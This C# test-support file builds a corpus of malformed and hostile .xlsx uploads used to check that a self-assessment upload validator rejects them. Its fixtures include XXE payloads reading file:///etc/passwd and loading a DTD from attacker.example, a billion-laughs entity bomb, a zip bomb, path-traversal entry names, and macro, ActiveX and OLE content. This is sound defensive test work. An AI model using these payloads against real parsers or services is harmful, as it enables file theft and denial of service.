using System.Buffers.Binary;
using System.IO.Compression;
using System.Text;
using System.Text.Encodings.Web;
using System.Text.Json;
using System.Text.Json.Serialization;
using System.Text.RegularExpressions;
using DocumentFormat.OpenXml;
using DocumentFormat.OpenXml.Packaging;
using OfficeEval.Documents.SelfAssessment;
using S = DocumentFormat.OpenXml.Spreadsheet;
using W = DocumentFormat.OpenXml.Wordprocessing;

namespace OfficeEval.Documents.Tests.Support;

/// <summary>
/// The bad-file corpus under <c>Corpus/bad</c>: every file, how it is built and what reading it must give. This class is
/// the single source of the checked-in files and of <c>expected.json</c>; both are rewritten by <see cref="Write"/>
/// (see <c>BadFileCorpusTests.WriteCorpus_WhenRequested</c>). Every workbook starts from <see cref="TestTemplates.Generate"/>,
/// filled with <see cref="WorkbookFiller"/>, and is written byte-for-byte the same on every run (<see cref="ZipEntries.Normalize"/>).
/// </summary>
internal static partial class BadFileCorpus
{
    public const string ExpectationsFile = "expected.json";

    private const string Sheet = WorkbookFiller.SheetName;
    private const string ExternalLinkPathType = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath";
    private const string OleObjectType = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject";
    private const string ImageType = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/image";

    private static readonly Dictionary<string, FilledRow> Answers = new(StringComparer.Ordinal)
    {
        ["1.1"] = FilledRow.Option("较好", 6m, "已建立工作机制。"),
        ["1.2.1"] = FilledRow.Count(2m, 12m, "发现问题 2 次。"),
        ["1.2.2"] = FilledRow.Option("一般", 7.5m),
        ["2.1.1"] = FilledRow.Count(0m, 30m),
        ["2.1.2"] = FilledRow.Option("全部完成（100%）", 30m, "见附件。"),
    };

    private static readonly JsonSerializerOptions JsonOptions = new()
    {
        WriteIndented = true,
        NewLine = "\n",
        PropertyNamingPolicy = JsonNamingPolicy.CamelCase,
        DefaultIgnoreCondition = JsonIgnoreCondition.WhenWritingDefault,
        Encoder = JavaScriptEncoder.UnsafeRelaxedJsonEscaping,
    };

    /// <summary>Every file of the corpus, in the order of <c>expected.json</c>.</summary>
    public static IReadOnlyList<BadFile> Files { get; } = BuildList();

    /// <summary>The bytes of corpus file <paramref name="name"/>, built now.</summary>
    public static byte[] Build(string name) => Files.Single(f => f.Name == name).Build();

    /// <summary>What <c>expected.json</c> holds: file name → expected outcome.</summary>
    public static SortedDictionary<string, BadFileExpectation> Expectations() =>
        new(Files.ToDictionary(f => f.Name, f => f.Expectation, StringComparer.Ordinal), StringComparer.Ordinal);

    public static string ExpectationsJson() => JsonSerializer.Serialize(Expectations(), JsonOptions) + "\n";

    public static Dictionary<string, BadFileExpectation> ReadExpectations(string path) =>
        JsonSerializer.Deserialize<Dictionary<string, BadFileExpectation>>(File.ReadAllText(path), JsonOptions)
        ?? throw new InvalidDataException(path + " is empty.");

    /// <summary>Writes every file that is not generated at test time, and <c>expected.json</c>; deletes any other file.</summary>
    public static void Write(string directory)
    {
        Directory.CreateDirectory(directory);
        var written = new HashSet<string>(StringComparer.Ordinal) { ExpectationsFile };
        foreach (var file in Files.Where(f => !f.Expectation.Generated))
        {
            File.WriteAllBytes(Path.Combine(directory, file.Name), file.Build());
            written.Add(file.Name);
        }

        foreach (var stale in Directory.EnumerateFiles(directory).Where(p => !written.Contains(Path.GetFileName(p))))
        {
            File.Delete(stale);
        }

        File.WriteAllText(Path.Combine(directory, ExpectationsFile), ExpectationsJson(), new UTF8Encoding(false));
    }

    /// <summary>The filled workbook with an external hyperlink on the first evidence cell (K4): harmless, accepted, never followed.</summary>
    public static byte[] WithHyperlink(Uri target) => EditSheetPart(Filled(), part =>
    {
        part.AddHyperlinkRelationship(target, true, "rIdHyperlink1");
        var worksheet = part.Worksheet;
        worksheet.InsertAfter(new S.Hyperlinks(new S.Hyperlink { Reference = "K4", Id = "rIdHyperlink1", Display = "佐证材料" }),
            worksheet.GetFirstChild<S.DataValidations>());
    });

    /// <summary>The filled workbook linked to another workbook (xl/externalLinks/externalLink1.xml with an externalLinkPath).</summary>
    public static byte[] WithExternalLink(Uri target) => EditPackage(Filled(), document =>
    {
        var workbookPart = document.WorkbookPart!;
        var link = workbookPart.AddNewPart<ExternalWorkbookPart>("rIdExternalLink1");
        link.AddExternalRelationship(ExternalLinkPathType, target, "rIdPath1");
        link.ExternalLink = new S.ExternalLink(new S.ExternalBook(new S.SheetNames(new S.SheetName { Val = Sheet })) { Id = "rIdPath1" });
        var workbook = workbookPart.Workbook;
        workbook.InsertAfter(new S.ExternalReferences(new S.ExternalReference { Id = "rIdExternalLink1" }), workbook.Sheets);
    });

    /// <summary>The filled workbook with a web query refreshed on open (xl/connections.xml).</summary>
    public static byte[] WithDataConnection(Uri source) => EditPackage(Filled(), document =>
    {
        var part = document.WorkbookPart!.AddNewPart<ConnectionsPart>("rIdConnections1");
        part.Connections = new S.Connections(new S.Connection(new S.WebQueryProperties { Url = source.AbsoluteUri, HtmlTables = true })
        {
            Id = 1U,
            Name = "上年数据",
            Type = 4U,
            RefreshedVersion = 8,
            RefreshOnLoad = true,
            SaveData = true,
        });
    });

    /// <summary>The filled workbook with a linked (not embedded) OLE object: an oleObject relationship with TargetMode="External".</summary>
    public static byte[] WithExternalOleObject(Uri target) => EditSheetPart(Filled(), part =>
    {
        part.AddExternalRelationship(OleObjectType, target, "rIdOle1");
        part.Worksheet.Append(new S.OleObjects(new S.OleObject { ProgId = "Word.Document.12", ShapeId = 1025U, Id = "rIdOle1" }));
    });

    /// <summary>The filled workbook with a linked picture: a drawing whose image relationship has TargetMode="External".</summary>
    public static byte[] WithExternalImage(Uri target) => EditSheetPart(Filled(), part =>
    {
        var drawing = part.AddNewPart<DrawingsPart>("rIdDrawing1");
        drawing.AddExternalRelationship(ImageType, target, "rIdImage1");
        using (var stream = drawing.GetStream(FileMode.Create))
        {
            stream.Write(Encoding.UTF8.GetBytes(
                "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>"
                + "<xdr:wsDr xmlns:xdr=\"http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing\" xmlns:a=\"http://schemas.openxmlformats.org/drawingml/2006/main\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\">"
                + "<xdr:oneCellAnchor><xdr:from><xdr:col>10</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>3</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:from><xdr:ext cx=\"952500\" cy=\"952500\"/>"
                + "<xdr:pic><xdr:nvPicPr><xdr:cNvPr id=\"2\" name=\"佐证截图\"/><xdr:cNvPicPr/></xdr:nvPicPr>"
                + "<xdr:blipFill><a:blip r:link=\"rIdImage1\"/><a:stretch><a:fillRect/></a:stretch></xdr:blipFill>"
                + "<xdr:spPr><a:prstGeom prst=\"rect\"><a:avLst/></a:prstGeom></xdr:spPr></xdr:pic><xdr:clientData/></xdr:oneCellAnchor></xdr:wsDr>"));
        }

        part.Worksheet.Append(new S.Drawing { Id = "rIdDrawing1" });
    });

    /// <summary>The filled workbook whose sheet declares a DTD with an external parameter entity (out-of-band XXE).</summary>
    public static byte[] WithExternalDtd(Uri target)
    {
        var xlsx = Filled();
        return ZipEntries.EditText(xlsx, SheetEntry(xlsx), xml => InsertDoctype(xml,
            $"<!DOCTYPE worksheet [<!ENTITY % remote SYSTEM \"{target.AbsoluteUri}\"> %remote;]>"));
    }

    /// <summary>The filled workbook whose shared strings declare an external entity and use it in a cell.</summary>
    public static byte[] WithExternalEntity(Uri target)
    {
        var xlsx = Filled();
        return ZipEntries.EditText(xlsx, PartEntry(xlsx, w => w.SharedStringTablePart!), xml =>
            FirstTextElement().Replace(InsertDoctype(xml, $"<!DOCTYPE sst [<!ENTITY xxe SYSTEM \"{target.AbsoluteUri}\">]>"), "$0&xxe;", 1));
    }

    /// <summary>
    /// The filled workbook with an image relationship from the workbook part whose TargetMode is left out (internal) but
    /// whose target is not a part of the package.
    /// </summary>
    public static byte[] WithInternalRelationshipTo(string target)
    {
        var xlsx = Filled();
        var workbook = PartEntry(xlsx, w => w);
        var rels = workbook[..(workbook.LastIndexOf('/') + 1)] + "_rels/" + workbook[(workbook.LastIndexOf('/') + 1)..] + ".rels";
        return ZipEntries.EditText(xlsx, rels, xml => xml.Replace("</Relationships>",
            $"<Relationship Type=\"{ImageType}\" Target=\"{System.Security.SecurityElement.Escape(target)}\" Id=\"rIdImage1\" /></Relationships>", StringComparison.Ordinal));
    }

    private static List<BadFile> BuildList()
    {
        var limits = UploadLimits.Default;
        List<BadFile> files =
        [
            // Not a zip package at all.
            Refused("empty.xlsx", "upload.not_xlsx", "a zero-byte upload", () => []),
            Refused("random-bytes.xlsx", "upload.not_xlsx", "4 KB of random bytes", () => RandomBytes(4096, 20260101)),
            Refused("csv-renamed.xlsx", "upload.not_xlsx", "a text (CSV) file renamed to .xlsx",
                () => Encoding.UTF8.GetBytes("指标编码,自评结果（选项/次数）,自评得分,情况说明\r\n1.1,较好,6,已建立工作机制。\r\n1.2.1,2,12,\r\n")),
            Refused("pdf-renamed.xlsx", "upload.not_xlsx", "a PDF renamed to .xlsx", Pdf),
            Refused("png-renamed.xlsx", "upload.not_xlsx", "a PNG image renamed to .xlsx", Png),
            Refused("truncated-half.xlsx", "upload.not_xlsx", "a filled workbook cut in half: no central directory",
                Truncated),
            Refused("zip-magic-then-garbage.xlsx", "upload.not_xlsx", "a zip local-header signature followed by random bytes",
                () => [0x50, 0x4B, 0x03, 0x04, .. RandomBytes(2044, 11)]),
            Refused("corrupt-entry-data.xlsx", "upload.not_xlsx", "the sheet entry's compressed data overwritten with random bytes", CorruptEntryData),
            Refused("zip-unsupported-compression.xlsx", "upload.not_xlsx", "the sheet entry claims compression method 14 (LZMA)",
                () => PatchEntry(Filled(), SheetEntry(Filled()), localOffset: 8, centralOffset: 10, value: 14)),
            Refused("zip-encrypted-entry.xlsx", "upload.not_xlsx", "the sheet entry is flagged as encrypted with a zip password",
                () => PatchEntry(Filled(), SheetEntry(Filled()), localOffset: 6, centralOffset: 8, value: 1)),
            Refused("zip-not-a-package.xlsx", "upload.not_xlsx", "a valid zip holding a text file and a CSV, no [Content_Types].xml",
                () => ZipEntries.Write([new("readme.txt", Encoding.UTF8.GetBytes("不是工作簿")), new("data.csv", Encoding.UTF8.GetBytes("1.1,较好\r\n"))])),
            Refused("word-document-renamed.xlsx", "upload.not_xlsx", "a Word document (.docx) renamed to .xlsx", WordDocument),

            // Sizes.
            Refused("zip-bomb.xlsx", "upload.too_large_expanded", $"an extra entry of zeros expanding past the {limits.MaxUncompressedBytes / 1024 / 1024} MB limit",
                () => ZipEntries.Add(Filled(), new ZipItem("xl/media/image1.png", new byte[limits.MaxUncompressedBytes + 1], CompressionLevel.SmallestSize))),
            Refused("too-many-entries.xlsx", "upload.too_many_entries", $"a filled workbook padded to {limits.MaxZipEntries + 1} entries", TooManyEntries),
            Refused("oversized.xlsx", "upload.too_large", $"a filled workbook with a stored random image, over the {limits.MaxFileBytes / 1024 / 1024} MB limit",
                () => ZipEntries.Add(Filled(), new ZipItem("xl/media/image1.png", RandomBytes((int)limits.MaxFileBytes, 3), CompressionLevel.NoCompression)),
                generated: true),

            // Document type declarations.
            Refused("dtd-in-sheet.xlsx", "upload.dtd", "the sheet part declares an internal DTD subset",
                () => EditEntry(Filled(), SheetEntry, xml => InsertDoctype(xml, "<!DOCTYPE worksheet [<!ENTITY unit \"市测试局\">]>"))),
            Refused("dtd-in-content-types.xlsx", "upload.dtd", "[Content_Types].xml declares a DTD",
                () => ZipEntries.EditText(Filled(), "[Content_Types].xml", xml => InsertDoctype(xml, "<!DOCTYPE Types [<!ENTITY xml \"application/xml\">]>"))),
            Refused("dtd-in-rels.xlsx", "upload.dtd", "_rels/.rels declares an external DTD",
                () => ZipEntries.EditText(Filled(), "_rels/.rels", xml => InsertDoctype(xml, "<!DOCTYPE Relationships SYSTEM \"relationships.dtd\">"))),
            Refused("dtd-utf16-sheet.xlsx", "upload.dtd", "the sheet part re-encoded as UTF-16 with a BOM, declaring a DTD", Utf16SheetWithDoctype),
            Refused("xxe-local-file.xlsx", "upload.dtd", "shared strings declare an entity reading file:///etc/passwd and use it in a cell",
                () => WithExternalEntity(new Uri("file:///etc/passwd"))),
            Refused("xxe-external-dtd.xlsx", "upload.dtd", "the sheet loads an external parameter entity from a web server",
                () => WithExternalDtd(new Uri("http://attacker.example/evil.dtd"))),
            Refused("billion-laughs.xlsx", "upload.dtd", "the sheet declares nested entities (10^9 copies of \"lol\") and uses them in a cell", BillionLaughs),

            // Links to other files and data sources.
            Refused("external-link.xlsx", "upload.external_link", "a link to another workbook (xl/externalLinks/externalLink1.xml)",
                () => WithExternalLink(new Uri("file:///D:/2025/self-assessment.xlsx"))),
            Refused("data-connection.xlsx", "upload.external_link", "a web query refreshed on open (xl/connections.xml)",
                () => WithDataConnection(new Uri("http://data.example/report.html"))),
            Refused("external-ole.xlsx", "upload.external_link", "a linked OLE object: oleObject relationship with TargetMode=\"External\"",
                () => WithExternalOleObject(new Uri("file:///D:/2025/attachment.docx"))),
            Refused("external-image.xlsx", "upload.external_link", "a linked picture: image relationship with TargetMode=\"External\"",
                () => WithExternalImage(new Uri("http://images.example/evidence.png"))),
            Refused("relationship-absolute-target.xlsx", "upload.not_xlsx", "an internal (no TargetMode) image relationship to file:///etc/passwd",
                () => WithInternalRelationshipTo("file:///etc/passwd")),
            Refused("relationship-escapes-package.xlsx", "upload.not_xlsx", "an internal image relationship to ../../../etc/passwd, above the package root",
                () => WithInternalRelationshipTo("../../../etc/passwd")),

            // Macros, templates, active content.
            Refused("vba-project.xlsx", "upload.macro", "an xl/vbaProject.bin entry in a package typed as .xlsx",
                () => ZipEntries.Add(Filled(), new ZipItem("xl/vbaProject.bin", CompoundFileBuilder.VbaProject()))),
            Refused("xlsm-content-type.xlsx", "upload.macro", "the main part's content type is macro-enabled (.xlsm), no VBA part",
                () => ChangeType(Filled(), SpreadsheetDocumentType.MacroEnabledWorkbook)),
            Refused("xlsm-renamed.xlsx", "upload.macro", "a macro-enabled workbook with a VBA project, renamed to .xlsx", XlsmWithVba),
            Refused("xltx-template.xlsx", "upload.template", "the main part's content type is a template (.xltx)",
                () => ChangeType(Filled(), SpreadsheetDocumentType.Template)),
            Refused("xltm-template.xlsx", "upload.macro", "the main part's content type is a macro-enabled template (.xltm)",
                () => ChangeType(Filled(), SpreadsheetDocumentType.MacroEnabledTemplate)),
            Refused("activex.xlsx", "upload.active_content", "an ActiveX control (xl/activeX/activeX1.xml and .bin)", ActiveX),
            Refused("embedded-ole.xlsx", "upload.active_content", "an embedded OLE package object (xl/embeddings/oleObject1.bin)", EmbeddedOle),

            // OLE compound files.
            Refused("encrypted.xlsx", "upload.encrypted", "a password-protected workbook: compound file with EncryptionInfo and EncryptedPackage",
                CompoundFileBuilder.EncryptedWorkbook),
            Refused("legacy-biff8.xls", "upload.legacy_xls", "an Excel 97-2003 workbook: compound file with a Workbook stream",
                () => CompoundFileBuilder.LegacyWorkbook()),
            Refused("legacy-biff5.xls", "upload.legacy_xls", "an Excel 5.0/95 workbook: compound file with a Book stream",
                () => CompoundFileBuilder.LegacyWorkbook("Book")),
            Refused("word-97.doc", "upload.not_xlsx", "a Word 97-2003 document: compound file with a WordDocument stream", CompoundFileBuilder.WordDocument),

            // Entry names.
            Refused("path-traversal.xlsx", "upload.not_xlsx", "an extra entry named ../../evil.xml",
                () => ZipEntries.Add(Filled(), new ZipItem("../../evil.xml", Encoding.UTF8.GetBytes("<evil/>")))),
            Refused("absolute-entry.xlsx", "upload.not_xlsx", "an extra entry with an absolute name (/xl/worksheets/sheet2.xml)",
                () => ZipEntries.Add(Filled(), new ZipItem("/xl/worksheets/sheet2.xml", Encoding.UTF8.GetBytes("<worksheet/>")))),
            Refused("backslash-entry.xlsx", "upload.not_xlsx", "the sheet entry's name written with backslashes", BackslashEntry),
            Refused("duplicate-entries.xlsx", "upload.not_xlsx", "two entries named like the sheet part, with different answers",
                () => DuplicateSheet(name => name)),
            Refused("duplicate-entries-case.xlsx", "upload.not_xlsx", "a second sheet entry whose name differs only in case",
                () => DuplicateSheet(name => name.ToUpperInvariant())),

            // Whose workbook it is, and its structure.
            Refused("no-identity.xlsx", "upload.not_template", "the custom XML identity part removed", NoIdentity),
            Refused("wrong-campaign.xlsx", "upload.wrong_campaign", "generated for another campaign",
                () => Filled(TestTemplates.Template(campaignId: Guid.Parse("00000000-0000-4000-8000-000000000099")))),
            Refused("wrong-unit.xlsx", "upload.wrong_unit", "generated for another unit",
                () => Filled(TestTemplates.Template(unitId: Guid.Parse("00000000-0000-4000-8000-0000000000bb")))),
            Refused("template-outdated.xlsx", "upload.template_outdated", "generated from framework version 2025.2",
                () => Filled(TestTemplates.Template(framework: TestTemplates.Framework("2025.2")))),
            Refused("sheet-deleted.xlsx", "upload.sheet_missing", $"sheet {Sheet} deleted, an empty Sheet1 left", SheetDeleted),
            Refused("header-removed.xlsx", "upload.header_missing", "the header row (row 3) deleted",
                () => EditSheetPart(Filled(), part => RowAt(part, 3).Remove())),
            Refused("column-renamed.xlsx", "upload.column_missing", "header H3 renamed from 自评结果（选项/次数） to 自评结果",
                () => ZipEntries.Normalize(WorkbookFiller.SetCell(Filled(), "H3", "自评结果"))),

            // Read, with one problem in one cell.
            CellProblem("cell-not-a-number.xlsx", "cell.not_a_number", "H5", "the count of 1.2.1 typed as 三次",
                () => Filled(changes: new() { ["1.2.1"] = new FilledRow(AnswerText: "三次", SelfScore: 12m) })),
            CellProblem("cell-self-score-not-a-number.xlsx", "cell.not_a_number", "I4", "the self-score of 1.1 typed as 满分",
                () => Filled(changes: new() { ["1.1"] = new FilledRow(AnswerText: "较好", SelfScoreText: "满分") })),
            CellProblem("cell-too-long.xlsx", "cell.too_long", "J4", $"the explanation of 1.1 is {limits.MaxCellText + 1} characters long",
                () => Filled(changes: new() { ["1.1"] = FilledRow.Option("较好", 6m, new string('说', limits.MaxCellText + 1)) })),
            CellProblem("code-duplicate.xlsx", "cell.code_duplicate", "A10", "row 5 (1.2.1) copied below the total, as row 10", CodeDuplicate),
            CellProblem("row-missing.xlsx", "row.missing", null, "the row of 2.1.2 (row 8) deleted",
                () => EditSheetPart(Filled(), part => RowAt(part, 8).Remove())),
        ];
        return [.. files.OrderBy(f => f.Name, StringComparer.Ordinal)];
    }

    private static BadFile Refused(string name, string code, string why, Func<byte[]> build, bool generated = false) =>
        new(name, new BadFileExpectation(code, null, null, why, generated), build);

    private static BadFile CellProblem(string name, string code, string? cell, string why, Func<byte[]> build) =>
        new(name, new BadFileExpectation(code, Sheet, cell, why), build);

    /// <summary>The generated template with valid answers in every row, and <paramref name="changes"/> typed over them.</summary>
    private static byte[] Filled(SelfAssessmentTemplate? template = null, Dictionary<string, FilledRow>? changes = null)
    {
        var rows = new Dictionary<string, FilledRow>(Answers, StringComparer.Ordinal);
        foreach (var (code, row) in changes ?? new Dictionary<string, FilledRow>())
        {
            rows[code] = row;
        }

        return ZipEntries.Normalize(WorkbookFiller.Fill(TestTemplates.Generate(template), rows));
    }

    private static byte[] EditPackage(byte[] xlsx, Action<SpreadsheetDocument> edit)
    {
        using var stream = new MemoryStream();
        stream.Write(xlsx);
        using (var document = SpreadsheetDocument.Open(stream, true))
        {
            edit(document);
        }

        return ZipEntries.Normalize(stream.ToArray());
    }

    private static byte[] EditSheetPart(byte[] xlsx, Action<WorksheetPart> edit) => EditPackage(xlsx, document =>
    {
        var part = SheetPart(document.WorkbookPart!);
        edit(part);
        part.Worksheet.Save();
    });

    private static WorksheetPart SheetPart(WorkbookPart workbookPart) =>
        (WorksheetPart)workbookPart.GetPartById(workbookPart.Workbook.Sheets!.Elements<S.Sheet>().Single(s => s.Name?.Value == Sheet).Id!.Value!);

    private static S.Row RowAt(WorksheetPart part, uint index) => part.Worksheet.Descendants<S.Row>().Single(r => r.RowIndex?.Value == index);

    /// <summary>The zip entry name of a part, e.g. <c>xl/worksheets/sheet1.xml</c>.</summary>
    private static string PartEntry(byte[] xlsx, Func<WorkbookPart, OpenXmlPart> pick)
    {
        using var stream = new MemoryStream(xlsx, writable: false);
        using var document = SpreadsheetDocument.Open(stream, false);
        return pick(document.WorkbookPart!).Uri.OriginalString.TrimStart('/');
    }

    private static string SheetEntry(byte[] xlsx) => PartEntry(xlsx, SheetPart);

    private static byte[] EditEntry(byte[] xlsx, Func<byte[], string> entry, Func<string, string> edit) =>
        ZipEntries.EditText(xlsx, entry(xlsx), edit);

    /// <summary>Puts <paramref name="doctype"/> right after the XML declaration, where a DOCTYPE belongs.</summary>
    private static string InsertDoctype(string xml, string doctype)
    {
        var start = xml.StartsWith('\uFEFF') ? 1 : 0;
        var declarationEnd = xml.AsSpan(start).StartsWith("<?xml", StringComparison.Ordinal) ? xml.IndexOf("?>", StringComparison.Ordinal) + 2 : start;
        return xml.Insert(declarationEnd, doctype);
    }

    private static byte[] RandomBytes(int length, int seed)
    {
        var bytes = new byte[length];
        new Random(seed).NextBytes(bytes);
        if (bytes[0] is 0x50 or 0xD0)
        {
            bytes[0] ^= 0x80; // neither a zip nor a compound file signature
        }

        return bytes;
    }

    private static byte[] Pdf() => Encoding.ASCII.GetBytes(
        "%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n"
        + "3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>\nendobj\n"
        + "xref\n0 4\n0000000000 65535 f \n0000000009 00000 n \n0000000058 00000 n \n0000000115 00000 n \n"
        + "trailer\n<< /Size 4 /Root 1 0 R >>\nstartxref\n188\n%%EOF\n");

    /// <summary>A 1×1 PNG.</summary>
    private static byte[] Png() => Convert.FromBase64String("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==");

    private static byte[] WordDocument()
    {
        using var stream = new MemoryStream();
        using (var document = WordprocessingDocument.Create(stream, WordprocessingDocumentType.Document))
        {
            document.AddMainDocumentPart().Document = new W.Document(new W.Body(new W.Paragraph(new W.Run(new W.Text("2026 年度自评报告")))));
        }

        return ZipEntries.Normalize(stream.ToArray());
    }

    private static byte[] Truncated()
    {
        var xlsx = Filled();
        return xlsx[..(xlsx.Length / 2)];
    }

    /// <summary>The middle of the sheet entry's compressed bytes replaced with random bytes; headers intact.</summary>
    private static byte[] CorruptEntryData()
    {
        var xlsx = Filled();
        var (local, _) = Locate(xlsx, SheetEntry(xlsx));
        var compressedSize = (int)BinaryPrimitives.ReadUInt32LittleEndian(xlsx.AsSpan(local + 18));
        var dataStart = local + 30 + BinaryPrimitives.ReadUInt16LittleEndian(xlsx.AsSpan(local + 26)) + BinaryPrimitives.ReadUInt16LittleEndian(xlsx.AsSpan(local + 28));
        RandomBytes(compressedSize - 32, 5).CopyTo(xlsx, dataStart + 16);
        return xlsx;
    }

    /// <summary>Sets a 16-bit field of <paramref name="name"/>'s local header and central directory record.</summary>
    private static byte[] PatchEntry(byte[] zip, string name, int localOffset, int centralOffset, ushort value)
    {
        var (local, central) = Locate(zip, name);
        BinaryPrimitives.WriteUInt16LittleEndian(zip.AsSpan(local + localOffset), value);
        BinaryPrimitives.WriteUInt16LittleEndian(zip.AsSpan(central + centralOffset), value);
        return zip;
    }

    /// <summary>Offsets of an entry's local header and central directory record, found through the end-of-central-directory record.</summary>
    private static (int Local, int Central) Locate(byte[] zip, string name)
    {
        var end = zip.Length - 22; // the archive has no comment
        if (BinaryPrimitives.ReadUInt32LittleEndian(zip.AsSpan(end)) != 0x06054B50)
        {
            throw new InvalidDataException("No end-of-central-directory record.");
        }

        var count = BinaryPrimitives.ReadUInt16LittleEndian(zip.AsSpan(end + 10));
        var central = (int)BinaryPrimitives.ReadUInt32LittleEndian(zip.AsSpan(end + 16));
        for (var i = 0; i < count; i++)
        {
            var nameLength = BinaryPrimitives.ReadUInt16LittleEndian(zip.AsSpan(central + 28));
            var extraLength = BinaryPrimitives.ReadUInt16LittleEndian(zip.AsSpan(central + 30));
            var commentLength = BinaryPrimitives.ReadUInt16LittleEndian(zip.AsSpan(central + 32));
            if (Encoding.UTF8.GetString(zip, central + 46, nameLength) == name)
            {
                return ((int)BinaryPrimitives.ReadUInt32LittleEndian(zip.AsSpan(central + 42)), central);
            }

            central += 46 + nameLength + extraLength + commentLength;
        }

        throw new ArgumentException("The archive has no entry " + name + ".", nameof(name));
    }

    private static byte[] TooManyEntries()
    {
        var xlsx = Filled();
        var padding = UploadLimits.Default.MaxZipEntries + 1 - ZipEntries.Read(xlsx).Count;
        return ZipEntries.Add(xlsx, [.. Enumerable.Range(1, padding).Select(i => new ZipItem(
            "xl/media/image" + i.ToString("000", System.Globalization.CultureInfo.InvariantCulture) + ".png", Png()))]);
    }

    private static byte[] Utf16SheetWithDoctype()
    {
        var xlsx = Filled();
        var sheet = SheetEntry(xlsx);
        var items = ZipEntries.Read(xlsx);
        var index = items.FindIndex(i => i.Name == sheet);
        var xml = InsertDoctype(Encoding.UTF8.GetString(items[index].Content).Replace("encoding=\"utf-8\"", "encoding=\"utf-16\"", StringComparison.OrdinalIgnoreCase),
            "<!DOCTYPE worksheet [<!ENTITY unit \"市测试局\">]>");
        items[index] = items[index] with { Content = [.. Encoding.Unicode.GetPreamble(), .. Encoding.Unicode.GetBytes(xml)] };
        return ZipEntries.Write(items);
    }

    private static byte[] BillionLaughs()
    {
        const string Placeholder = "BILLION-LAUGHS";
        var xlsx = Filled(changes: new() { ["1.1"] = FilledRow.Option("较好", 6m, Placeholder) });
        var entities = new StringBuilder("<!DOCTYPE worksheet [<!ENTITY lol \"lol\">");
        for (var i = 1; i <= 9; i++)
        {
            var previous = i == 1 ? "lol" : "lol" + (i - 1).ToString(System.Globalization.CultureInfo.InvariantCulture);
            entities.Append("<!ENTITY lol").Append(i.ToString(System.Globalization.CultureInfo.InvariantCulture)).Append(" \"")
                .Append(string.Concat(Enumerable.Repeat("&" + previous + ";", 10))).Append("\">");
        }

        entities.Append("]>");
        return ZipEntries.EditText(xlsx, SheetEntry(xlsx), xml => InsertDoctype(xml, entities.ToString()).Replace(Placeholder, "&lol9;", StringComparison.Ordinal));
    }

    private static byte[] ChangeType(byte[] xlsx, SpreadsheetDocumentType type) => EditPackage(xlsx, document => document.ChangeDocumentType(type));

    private static byte[] XlsmWithVba() => EditPackage(Filled(), document =>
    {
        document.ChangeDocumentType(SpreadsheetDocumentType.MacroEnabledWorkbook);
        using var stream = document.WorkbookPart!.AddNewPart<VbaProjectPart>("rIdVba1").GetStream(FileMode.Create);
        stream.Write(CompoundFileBuilder.VbaProject());
    });

    private static byte[] ActiveX() => EditSheetPart(Filled(), part =>
    {
        var control = part.AddNewPart<EmbeddedControlPersistencePart>("application/vnd.ms-office.activeX+xml", "rIdControl1");
        using (var stream = control.GetStream(FileMode.Create))
        {
            stream.Write(Encoding.UTF8.GetBytes(
                "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"no\"?>"
                + "<ax:ocx ax:classid=\"{D7053240-CE69-11CD-A777-00DD01143C57}\" ax:persistence=\"persistStreamInit\" r:id=\"rIdBinary1\""
                + " xmlns:ax=\"http://schemas.microsoft.com/office/2006/activeX\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"/>"));
        }

        using (var binary = control.AddNewPart<EmbeddedControlPersistenceBinaryDataPart>("application/vnd.ms-office.activeX", "rIdBinary1").GetStream(FileMode.Create))
        {
            binary.Write(RandomBytes(64, 9));
        }

        part.Worksheet.Append(new S.Controls(new S.Control { ShapeId = 1025U, Id = "rIdControl1", Name = "CommandButton1" }));
    });

    private static byte[] EmbeddedOle() => EditSheetPart(Filled(), part =>
    {
        var ole = part.AddNewPart<EmbeddedObjectPart>("application/vnd.openxmlformats-officedocument.oleObject", "rIdOle1");
        using (var stream = ole.GetStream(FileMode.Create))
        {
            stream.Write(CompoundFileBuilder.OlePackage());
        }

        part.Worksheet.Append(new S.OleObjects(new S.OleObject { ProgId = "Package", ShapeId = 1025U, Id = "rIdOle1" }));
    });

    private static byte[] BackslashEntry()
    {
        var xlsx = Filled();
        var sheet = SheetEntry(xlsx);
        return ZipEntries.Write(ZipEntries.Read(xlsx).Select(i => i.Name == sheet ? i with { Name = sheet.Replace('/', '\\') } : i));
    }

    /// <summary>The filled workbook plus a second copy of its sheet entry, named by <paramref name="rename"/>, whose answers differ.</summary>
    private static byte[] DuplicateSheet(Func<string, string> rename)
    {
        var xlsx = Filled();
        var sheet = SheetEntry(xlsx);
        var other = Filled(changes: new() { ["1.1"] = FilledRow.Option("好", 7.5m, "已建立工作机制。") });
        var copy = ZipEntries.Read(other).Single(i => i.Name == sheet);
        return ZipEntries.Add(xlsx, copy with { Name = rename(sheet) });
    }

    private static byte[] NoIdentity() => EditPackage(Filled(), document =>
    {
        var workbookPart = document.WorkbookPart!;
        foreach (var part in workbookPart.CustomXmlParts.ToList())
        {
            workbookPart.DeletePart(part);
        }

        // The identity's second copy, in the custom document properties, goes too.
        document.DeletePart(document.CustomFilePropertiesPart!);
    });

    private static byte[] SheetDeleted() => EditPackage(Filled(), document =>
    {
        var workbookPart = document.WorkbookPart!;
        var sheets = workbookPart.Workbook.Sheets!;
        var assessment = sheets.Elements<S.Sheet>().Single(s => s.Name?.Value == Sheet);
        var replacement = workbookPart.AddNewPart<WorksheetPart>("rIdReplacement");
        replacement.Worksheet = new S.Worksheet(new S.SheetData());
        sheets.Append(new S.Sheet { Name = "Sheet1", SheetId = 99U, Id = "rIdReplacement" });
